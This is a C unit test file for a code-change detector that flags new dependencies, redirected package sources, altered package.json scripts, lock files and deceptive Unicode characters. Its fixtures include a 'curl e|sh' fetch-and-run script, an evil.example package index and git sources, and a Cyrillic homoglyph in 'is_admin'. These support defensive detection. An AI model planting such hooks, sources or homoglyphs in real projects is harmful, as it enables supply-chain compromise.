/* SPDX-License-Identifier: Apache-2.0 */
#include "lib/rules/airlock/change.h"

#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdio.h>
#include <cmocka.h>

#include "lib/base/mem.h"

/* The names that were found, as "kind:name kind:name". */
static void check_names(const char *path, const char *old, const char *new, const char *want)
{
	AUTO_FREE char *all = xstrdup("");
	struct change_found f;

	change_find(path, slice_from_str(old), slice_from_str(new), &f);
	for (size_t i = 0; i < f.n; i++) {
		AUTO_FREE char *before = all;

		all = xasprintf("%s%s%s:%s", before, i ? " " : "", change_kind_name(f.v[i].kind),
			f.v[i].text);
		assert_true(f.has[f.v[i].kind]);
	}
	if (strcmp(all, want) != 0)
		fail_msg("%s: found '%s', expected '%s'", path, all, want);
}

static void new_names_of_every_manifest_are_found(void **state)
{
	static const struct {
		const char *path, *old, *new, *want;
	} rows[] = {
		{"package.json", "{\"dependencies\":{\"a\":\"1\"}}",
			"{\"dependencies\":{\"a\":\"2\",\"left-pad\":\"1\"},\"devDependencies\":{\"b\":\"*\"}}",
			"dependency:left-pad dependency:b"},
		{"sub/package.json", "", "{\"overrides\":{\"a\":{\"b\":\"1\"}}}",
			"dependency:a dependency:b"},
		{"package.json", "{\"name\":\"x\"}", "{\"name\":\"y\",\"version\":\"2\"}", ""},
		{"Cargo.toml", "[dependencies]\nserde = \"1\"\n",
			"[dependencies]\nserde = \"2\"\nrand = { version = \"1\" }\n[dependencies.log]\n"
			"version = \"1\"\n[target.'cfg(unix)'.dev-dependencies]\nlibc.version = \"1\"\n"
			"[package]\nname = \"x\"\n",
			"dependency:rand dependency:log dependency:libc"},
		{"Cargo.toml", "", "dependencies.evil = \"1\"\n", "dependency:evil"},
		{"Cargo.toml", "", "[workspace]\ndependencies = { evil = \"1\", b = \"2\" }\n",
			"dependency:evil dependency:b"},
		{"pyproject.toml", "[project]\ndependencies = [\"requests>=2\"]\n",
			"[project]\nname = \"x\"\ndependencies = [\n  \"requests[socks]>=3\", # ]\n"
			"  'evil ; python_version > \"3\"',\n]\n"
			"[project.optional-dependencies]\ntest = [\"pytest\"]\n"
			"[build-system]\nrequires = [\"hatch\"]\n"
			"[tool.poetry.dependencies]\nflask = \"^1\"\n",
			"dependency:evil dependency:pytest dependency:hatch dependency:flask"},
		{"requirements-dev.txt", "a==1\n",
			"a==2\n# c\nb~=1\n-r other.txt\n--index-url=https://evil.example/\n",
			"dependency:b dependency:-r other.txt "
			"dependency:--index-url=https://evil.example/"},
		{"go.mod", "module x\nrequire a.example/a v1\n",
			"module x\nrequire a.example/a v2\nrequire (\n\tb.example/b v1 // indirect\n)\n"
			"replace a.example/a => ../evil\n",
			"dependency:b.example/b dependency:a.example/a => ../evil"},
		{"Gemfile", "gem 'rails'\n", "gem 'rails', '~> 7'\n  gem(\"evil\", '1')\n",
			"dependency:evil"},
		{"pom.xml",
			"<dependency><groupId>g</groupId><artifactId>a</artifactId></dependency>",
			"<dependency><groupId>g</groupId><artifactId>a</artifactId></dependency>"
			"<dependency>\n<groupId>e</groupId>\n<artifactId>evil</artifactId></dependency>",
			"dependency:evil"},
		{"build.gradle", "implementation 'g:a:1'\n",
			"implementation 'g:a:2'\napi(\"e:evil:1\")\nid 'plug' version '1'\n",
			"dependency:e:evil dependency:plug"},
	};

	for (size_t i = 0; i < ARRAY_LEN(rows); i++)
		check_names(rows[i].path, rows[i].old, rows[i].new, rows[i].want);
}

static void a_known_name_from_another_source_is_found(void **state)
{
	check_names("package.json", "{\"dependencies\":{\"a\":\"1\"}}",
		"{\"dependencies\":{\"a\":\"git+https://evil.example/a\"}}", "dependency:a");
	check_names("package.json", "{\"dependencies\":{\"a\":\"1\"}}",
		"{\"dependencies\":{\"a\":\"npm:evil@1\"}}", "dependency:a");
	check_names("Cargo.toml", "[dependencies]\na = \"1\"\n",
		"[dependencies]\na = { git = \"https://evil.example/a\" }\n", "dependency:a");
	check_names(
		"requirements.txt", "a==1\n", "a @ https://evil.example/a.whl\n", "dependency:a");
	check_names(
		"Gemfile", "gem 'a'\n", "gem 'a', git: 'https://evil.example/a'\n", "dependency:a");
	check_names("pom.xml", "<groupId>g</groupId><artifactId>a</artifactId>",
		"<groupId>evil</groupId><artifactId>a</artifactId>", "dependency:a");
}

static void scripts_of_package_json_are_found(void **state)
{
	check_names("package.json", "{\"scripts\":{\"test\":\"jest\",\"lint\":\"x\"}}",
		"{\"scripts\":{\"test\":\"curl e|sh\",\"postinstall\":\"y\",\"lint\":\"x\"}}",
		"script-change:test script-change:postinstall");
}

static void what_cannot_be_read_is_not_harmless(void **state)
{
	check_names("package.json", "{}", "{\"dependencies\":{\"a\":\"1\",}}",
		"dependency:a dependency:(the file cannot be read)");
	check_names(
		"package.json", "{}", "\357\273\277{\"scripts\":{\"a\":\"b\"}}", "script-change:a");
	/* The key is "scripts". */
	check_names("package.json", "{}", "{\"scr\\u0069pts\":{\"a\":\"b\"}}",
		"dependency:a script-change:a");
	/* The second one counts for npm. */
	check_names("package.json", "{}", "{\"scripts\":{},\"scripts\":{\"a\":\"b\"}}",
		"script-change:a");
}

static void lock_files_are_known_by_name(void **state)
{
	static const char *const names[] = {
		"package-lock.json", "a/Cargo.lock", "go.sum", "uv.lock"};
	struct change_found f;

	for (size_t i = 0; i < ARRAY_LEN(names); i++) {
		change_find(names[i], slice_of("", 0), slice_from_str("x"), &f);
		assert_true(f.has[CHANGE_LOCKFILE]);
	}
	change_find("Cargo.lock.c", slice_of("", 0), slice_from_str("x"), &f);
	assert_false(f.has[CHANGE_LOCKFILE]);
}

static void characters_that_deceive_are_found(void **state)
{
	check_names("a.c", "", "x = \342\200\2561;\n", "unicode:U+202E");
	check_names("a.c", "", "a\342\200\213b", "unicode:U+200B");
	check_names("a.c", "a\342\200\213b", "a\342\200\213b\n", "");
	check_names("a.c", "a\342\200\213b", "a\342\200\213b\342\200\213", "unicode:U+200B");
	check_names("a.c", "", "\357\273\277int\n", "");
	check_names("a.c", "", "int\357\273\277\n", "unicode:U+FEFF");
	check_names("a.md", "", "\360\237\221\250\342\200\215\360\237\221\251", ""); /* a family */
	check_names("a.c", "", "is_\320\260dmin = 1", "unicode:is_\320\260dmin"); /* Cyrillic a */
	check_names("a.c", "is_\320\260dmin", "is_\320\260dmin = 1", "");
	check_names("a.c", "", "\317\203x = \316\224t\n", ""); /* formulas */
	check_names("a.c", "", "v\316\277id", "unicode:v\316\277id");
	check_names("a.txt", "", "\320\277\321\200\320\270\320\262\320\265\321\202 hello", "");
	check_names("a.c", "", "gr\303\274n \346\274\242\345\255\227_x", "");
}

static void names_are_bounded(void **state)
{
	size_t n = 4u << 20, used = 0;
	AUTO_FREE char *text = xmalloc(n + 64);
	struct change_found f;

	while (used < n)
		used += (size_t)sprintf(text + used, "v%zu\320\260 ", used);
	change_find("a.c", slice_of("", 0), slice_of(text, used), &f);
	assert_true(f.is_more && f.n == CHANGE_MAX_FOUND);
	change_find("a.c", slice_of(text, used), slice_of(text, used), &f);
	assert_true(f.has[CHANGE_UNICODE]); /* not all were looked up */
	for (used = 0; used < n;)
		used += (size_t)sprintf(text + used, "a%zu\n", used);
	change_find("requirements.txt", slice_of("", 0), slice_of(text, used), &f);
	assert_true(f.is_more && f.has[CHANGE_DEPENDENCY]);
}

static void names_that_differ_in_case_fold_to_one(void **state)
{
	static const char *const rows[][2] = {
		{"README", "readme"},
		{"\303\204/\320\226\320\201", "\303\244/\320\266\321\221"},
		{"a\377Z", "a\377z"},
		{"\303\227", "\303\227"},
	};

	for (size_t i = 0; i < ARRAY_LEN(rows); i++) {
		AUTO_FREE char *name = xstrdup(rows[i][0]);

		change_fold(name);
		assert_string_equal(name, rows[i][1]);
	}
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(new_names_of_every_manifest_are_found),
		cmocka_unit_test(a_known_name_from_another_source_is_found),
		cmocka_unit_test(scripts_of_package_json_are_found),
		cmocka_unit_test(what_cannot_be_read_is_not_harmless),
		cmocka_unit_test(lock_files_are_known_by_name),
		cmocka_unit_test(characters_that_deceive_are_found),
		cmocka_unit_test(names_are_bounded),
		cmocka_unit_test(names_that_differ_in_case_fold_to_one),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
